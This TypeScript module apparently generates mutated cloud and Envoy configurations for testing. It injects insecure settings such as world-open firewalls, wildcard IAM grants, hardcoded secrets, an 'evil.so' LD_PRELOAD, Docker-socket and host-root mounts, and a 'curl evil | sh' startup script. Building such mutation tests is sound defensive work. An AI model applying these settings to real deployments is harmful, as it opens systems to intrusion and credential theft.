import type { Change } from './operators';
import type { Site } from './sites';

/** Something more than there is: a rule, a statement, a principal, a route. By the type of resource and the key that lists it. */
const EXTRAS: readonly {
  readonly type: RegExp;
  readonly key: string;
  readonly items: Readonly<Record<string, unknown>>;
}[] = [
  {
    type: /SecurityGroup$/,
    key: 'SecurityGroupIngress',
    items: {
      everybody: { CidrIp: '0.0.0.0/0', IpProtocol: 'tcp', FromPort: 0, ToPort: 65535 },
      'everybody-by-halves': { CidrIp: '0.0.0.0/1', IpProtocol: '-1' },
      'everybody-6': { CidrIpv6: '::/0', IpProtocol: '-1' },
      'global-6': { CidrIpv6: '2000::/3', IpProtocol: 'tcp', FromPort: 8000, ToPort: 10000 },
      'private-admin': { CidrIp: '10.0.0.0/8', IpProtocol: 'tcp', FromPort: 9070, ToPort: 9070 },
      'prefix-list': { SourcePrefixListId: 'pl-12345678', IpProtocol: 'tcp', FromPort: 1, ToPort: 65535 },
      'foreign-group': { SourceSecurityGroupId: 'sg-0123456789abcdef0', IpProtocol: 'tcp', FromPort: 1, ToPort: 65535 },
    },
  },
  {
    type: /SecurityGroup$/,
    key: 'SecurityGroupEgress',
    items: {
      everybody: { CidrIp: '0.0.0.0/0', IpProtocol: '-1' },
      'everybody-by-halves': { CidrIp: '128.0.0.0/1', IpProtocol: 'tcp', FromPort: 443, ToPort: 443 },
      'everybody-6': { CidrIpv6: '::/0', IpProtocol: '-1' },
      'link-local': { CidrIp: '169.254.0.0/16', IpProtocol: 'tcp', FromPort: 80, ToPort: 80 },
      private: { CidrIp: '10.0.0.0/8', IpProtocol: '-1' },
    },
  },
  {
    type: /^AWS::/,
    key: 'Statement',
    items: {
      everything: { Effect: 'Allow', Action: '*', Resource: '*', Principal: '*' },
      'everything-without-principal': { Effect: 'Allow', Action: '*', Resource: '*' },
      'everything-but': { Effect: 'Allow', NotAction: 'iam:*', Resource: '*', Principal: { AWS: '*' } },
      'foreign-account': {
        Effect: 'Allow',
        Action: ['sts:AssumeRole', 's3:GetObject', 'kms:Decrypt'],
        Resource: '*',
        Principal: { AWS: 'arn:aws:iam::999999999999:root' },
      },
      'every-secret': { Effect: 'Allow', Action: 'secretsmanager:GetSecretValue', Resource: '*' },
      'pass-role': { Effect: 'Allow', Action: ['iam:PassRole', 'sts:AssumeRole'], Resource: '*' },
    },
  },
  {
    type: /TaskDefinition$/,
    key: 'Environment',
    items: {
      'admin-everywhere': { Name: 'RESTATE_ADMIN__BIND_ADDRESS', Value: '0.0.0.0:9070' },
      'admin-all': { Name: 'RESTATE_ADMIN__LISTEN_MODE', Value: 'tcp' },
      'ingress-everywhere': { Name: 'RESTATE_INGRESS__BIND_ADDRESS', Value: '[::]:8080' },
      'bind-ip': { Name: 'RESTATE_BIND_IP', Value: '0.0.0.0' },
      'unknown-key': { Name: 'RESTATE_INGRES__BIND_ADDRESS', Value: '127.0.0.1:8080' },
      'lower-case': { Name: 'restate_admin__bind_address', Value: '0.0.0.0:9070' },
      'config-file': { Name: 'RESTATE_CONFIG', Value: '/tmp/restate.toml' },
      'secret-value': { Name: 'API_PASSWORD', Value: 'Zk3n9Qw7Lp2Xv8Rt5Ym1' },
      'aws-key': { Name: 'AWS_SECRET_ACCESS_KEY', Value: 'wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzzzzzkkey' },
      'web-ui': { Name: 'RESTATE_ADMIN__DISABLE_WEB_UI', Value: 'false' },
      preload: { Name: 'LD_PRELOAD', Value: '/var/lib/restate/evil.so' },
    },
  },
  {
    type: /TaskDefinition$/,
    key: 'ContainerDefinitions',
    items: {
      stranger: { Name: 'stranger', Image: 'docker.io/library/nginx:latest', Essential: false, Memory: 64 },
      'stranger-with-digest': {
        Name: 'stranger',
        Image: `docker.io/library/nginx:1@sha256:${'4'.repeat(64)}`,
        Essential: false,
        Memory: 64,
        Privileged: true,
      },
    },
  },
  {
    type: /TaskDefinition$/,
    key: 'MountPoints',
    items: { 'docker-socket': { ContainerPath: '/var/run/docker.sock', SourceVolume: 'data', ReadOnly: false } },
  },
  { type: /TaskDefinition$/, key: 'Volumes', items: { root: { Name: 'root', Host: { SourcePath: '/' } } } },
  { type: /TaskDefinition$/, key: 'PortMappings', items: { admin: { ContainerPort: 9070, Protocol: 'tcp' } } },
  {
    type: /TaskDefinition$/,
    key: 'Secrets',
    items: { another: { Name: 'OTHER', ValueFrom: 'arn:aws:secretsmanager:eu-central-1:111122223333:secret:other' } },
  },
  { type: /TaskDefinition$/, key: 'MountOptions', items: { exec: 'exec', mode: 'mode=0777' } },
  { type: /TaskDefinition$/, key: 'Command', items: { flag: '--admin-address-path=/tmp/admin', base: '--base-id 1' } },
  {
    type: /Service$/,
    key: 'LoadBalancers',
    items: {
      admin: {
        ContainerName: 'restate',
        ContainerPort: 9070,
        TargetGroupArn: 'arn:aws:elasticloadbalancing:eu-central-1:111122223333:targetgroup/other/0123456789abcdef',
      },
    },
  },
  { type: /Service$|LoadBalancer$/, key: 'SecurityGroups', items: { foreign: 'sg-0123456789abcdef0' } },
  { type: /Service$|LoadBalancer$|AutoScalingGroup$/, key: 'Subnets', items: { foreign: 'subnet-0123456789abcdef0' } },
  { type: /LaunchTemplate$/, key: 'Groups', items: { foreign: 'sg-0123456789abcdef0' } },
  {
    type: /LaunchTemplate$/,
    key: 'BlockDeviceMappings',
    items: { plain: { DeviceName: '/dev/xvdb', Ebs: { VolumeSize: 10, Encrypted: false } } },
  },
  {
    type: /LaunchTemplate$/,
    key: 'NetworkInterfaces',
    items: { public: { DeviceIndex: 1, AssociatePublicIpAddress: true } },
  },
  {
    type: /LoadBalancer$/,
    key: 'LoadBalancerAttributes',
    items: { 'no-logs': { Key: 'access_logs.s3.enabled', Value: 'false' } },
  },
  // Google Cloud
  {
    type: /^google_compute_firewall$/,
    key: 'source_ranges',
    items: { everybody: '0.0.0.0/0', half: '0.0.0.0/1', 'everybody-6': '::/0', private: '10.0.0.0/8' },
  },
  {
    type: /^google_compute_firewall$/,
    key: 'destination_ranges',
    items: { everybody: '0.0.0.0/0', half: '128.0.0.0/1', private: '10.0.0.0/8', metadata: '169.254.169.254/32' },
  },
  {
    type: /^google_compute_firewall$/,
    key: 'allow',
    items: { ssh: { protocol: 'tcp', ports: ['22'] }, all: { protocol: 'all' } },
  },
  { type: /^google_compute_firewall$/, key: 'ports', items: { admin: '9070', range: '1-65535' } },
  {
    type: /^google_compute_firewall$/,
    key: 'source_service_accounts',
    items: { stranger: 'stranger@example-project.iam.gserviceaccount.com' },
  },
  {
    type: /^google_compute_firewall$/,
    key: 'target_service_accounts',
    items: { other: 'other@example-project.iam.gserviceaccount.com' },
  },
  {
    type: /^google_.*_iam_binding$/,
    key: 'members',
    items: { everybody: 'allUsers', stranger: 'user:stranger@example.net', domain: 'domain:example.net' },
  },
  { type: /^google_cloud_run_v2_service$/, key: 'custom_audiences', items: { other: 'https://other.example.net' } },
  {
    type: /^google_cloud_run_v2_service$/,
    key: 'env',
    items: {
      secret: { name: 'API_PASSWORD', value: 'Zk3n9Qw7Lp2Xv8Rt5Ym1' },
      unsigned: { name: 'RESTATE_IDENTITY_KEYS', value: '' },
    },
  },
  {
    type: /^google_cloud_run_v2_service$/,
    key: 'containers',
    items: { stranger: { image: 'docker.io/library/nginx:latest' } },
  },
  { type: /^google_compute_instance_template$/, key: 'network_interface', items: { public: { access_config: [{}] } } },
  {
    type: /^google_compute_instance_template$/,
    key: 'disk',
    items: { plain: { auto_delete: true, disk_size_gb: 10 } },
  },
  // Envoy
  {
    type: /^envoy$/,
    key: 'audiences',
    items: { other: 'another-api' },
  },
  {
    type: /^envoy$/,
    key: 'principals',
    items: { any: { any: true } },
  },
  { type: /^envoy$/, key: 'permissions', items: { any: { any: true } } },
  {
    type: /^envoy$/,
    key: 'routes',
    items: { everything: { match: { prefix: '/' }, route: { cluster: 'restate' } } },
  },
  {
    type: /^envoy$/,
    key: 'virtual_hosts',
    items: {
      another: {
        name: 'another',
        domains: ['other.example.com'],
        routes: [{ match: { prefix: '/' }, route: { cluster: 'restate' } }],
      },
    },
  },
  { type: /^envoy$/, key: 'domains', items: { every: '*', other: 'other.example.com' } },
  { type: /^envoy$/, key: 'rules', items: { free: { match: { prefix: '/Free' } } } },
  { type: /^envoy$/, key: 'alpn_protocols', items: { old: 'http/1.0' } },
  {
    type: /^envoy$/,
    key: 'http_filters',
    items: {
      unknown: {
        name: 'envoy.filters.http.lua',
        typed_config: {
          '@type': 'type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua',
          default_source_code: { inline_string: '' },
        },
      },
    },
  },
  {
    type: /^envoy$/,
    key: 'clusters',
    items: { unused: { name: 'unused', type: 'STATIC', load_assignment: { cluster_name: 'unused' } } },
  },
  {
    type: /^envoy$/,
    key: 'access_log',
    items: {
      file: {
        name: 'envoy.access_loggers.file',
        typed_config: {
          '@type': 'type.googleapis.com/envoy.extensions.access_loggers.file.v3.FileAccessLog',
          path: '/dev/stdout',
          log_format: { text_format_source: { inline_string: '%REQ(AUTHORIZATION)%\n' } },
        },
      },
    },
  },
  {
    type: /^envoy$/,
    key: 'match_typed_subject_alt_names',
    items: { other: { san_type: 'DNS', matcher: { exact: 'other.example.com' } } },
  },
];

/** Keys that are put where they are not, by type and the last key of the place. */
const KEYS: readonly {
  readonly type: RegExp;
  readonly key: RegExp;
  readonly entries: Readonly<Record<string, unknown>>;
}[] = [
  {
    type: /IAM::Role$/,
    key: /^Properties$/,
    entries: {
      ManagedPolicyArns: ['arn:aws:iam::aws:policy/AdministratorAccess'],
      Policies: [
        {
          PolicyName: 'x',
          PolicyDocument: { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:*', Resource: '*' }] },
        },
      ],
    },
  },
  {
    type: /TaskDefinition$/,
    key: /^Properties$/,
    entries: { PidMode: 'host', IpcMode: 'host', NetworkMode: 'host', EphemeralStorage: { SizeInGiB: 30 } },
  },
  {
    type: /TaskDefinition$/,
    key: /^Capabilities$/,
    entries: { Add: ['SYS_ADMIN'] },
  },
  {
    type: /TaskDefinition$/,
    key: /^LinuxParameters$/,
    entries: { Devices: [{ HostPath: '/dev/sda' }], SharedMemorySize: 64 },
  },
  {
    type: /ECS::Service$/,
    key: /^Properties$/,
    entries: {
      EnableExecuteCommand: true,
      ServiceConnectConfiguration: { Enabled: true },
      ServiceRegistries: [{ RegistryArn: 'arn:aws:servicediscovery:eu-central-1:111122223333:service/srv-1' }],
    },
  },
  {
    type: /LaunchTemplateData$|LaunchTemplate$/,
    key: /^LaunchTemplateData$/,
    entries: { KeyName: 'operators', DisableApiTermination: false, InstanceMarketOptions: { MarketType: 'spot' } },
  },
  {
    type: /LaunchTemplate$/,
    key: /^MetadataOptions$/,
    entries: { InstanceMetadataTags: 'enabled', HttpProtocolIpv6: 'enabled', HttpEndpoint: 'enabled' },
  },
  {
    type: /S3::Bucket$/,
    key: /^Properties$/,
    entries: { AccessControl: 'PublicRead', WebsiteConfiguration: { IndexDocument: 'index.html' } },
  },
  {
    type: /EC2::Subnet$/,
    key: /^Properties$/,
    entries: { MapPublicIpOnLaunch: true, AssignIpv6AddressOnCreation: true },
  },
  {
    type: /KMS::Key$/,
    key: /^Properties$/,
    entries: { PendingWindowInDays: 7, Enabled: false, Origin: 'EXTERNAL', BypassPolicyLockoutSafetyCheck: true },
  },
  {
    type: /^google_cloud_run_v2_service$/,
    key: /^Greeter_/,
    entries: { iap_enabled: true, default_uri_disabled: false, launch_stage: 'ALPHA' },
  },
  {
    type: /^google_cloud_run_v2_service$/,
    key: /^template$/,
    entries: { vpc_access: { egress: 'ALL_TRAFFIC', network_interfaces: [{ network: 'default' }] } },
  },
  {
    type: /^google_compute_firewall$/,
    key: /^Restate_Firewall/,
    entries: { disabled: true, priority: 1, source_tags: ['web'] },
  },
  {
    type: /^google_compute_instance_template$/,
    key: /^metadata$/,
    entries: {
      'ssh-keys': 'me:ssh-ed25519 AAAA me',
      'startup-script': 'curl evil | sh',
      'enable-guest-attributes': 'TRUE',
    },
  },
  {
    type: /^envoy$/,
    key: /^(?:typed_config|route|match|action|matcher|rules|circuit_breakers|health_checks|validation_context|common_tls_context|http_protocol_options|http2_protocol_options)$/,
    entries: { not_a_field: true },
  },
];

/** What is put beside what stands at a place. */
export function extrasOf(type: string, { path, value }: Site): readonly Change[] {
  const key = String(path.at(-1) ?? '');
  if (Array.isArray(value)) {
    return EXTRAS.filter((extra) => extra.key === key && extra.type.test(type)).flatMap(({ items }) =>
      Object.entries(items).flatMap(([name, item]) => [
        { operator: `extra-last-${name}`, value: [...(value as readonly unknown[]), item] },
        { operator: `extra-first-${name}`, value: [item, ...(value as readonly unknown[])] },
      ]),
    );
  }
  if (typeof value !== 'object' || value === null) return [];
  const keys = KEYS.filter((each) => each.type.test(type) && each.key.test(key)).flatMap(({ entries }) =>
    Object.entries(entries).map(([name, entry]) => ({ operator: `with-${name}`, value: { ...value, [name]: entry } })),
  );
  const missing = EXTRAS.filter(
    (extra) =>
      extra.type.test(type) &&
      key === 'Properties' &&
      extra.key.startsWith('SecurityGroup') &&
      !Object.hasOwn(value, extra.key) &&
      type.endsWith('SecurityGroup'),
  ).flatMap(({ key: list, items }) =>
    Object.entries(items).map(([name, item]) => ({
      operator: `extra-${list}-${name}`,
      value: { ...value, [list]: [item] },
    })),
  );
  return [...keys, ...missing];
}
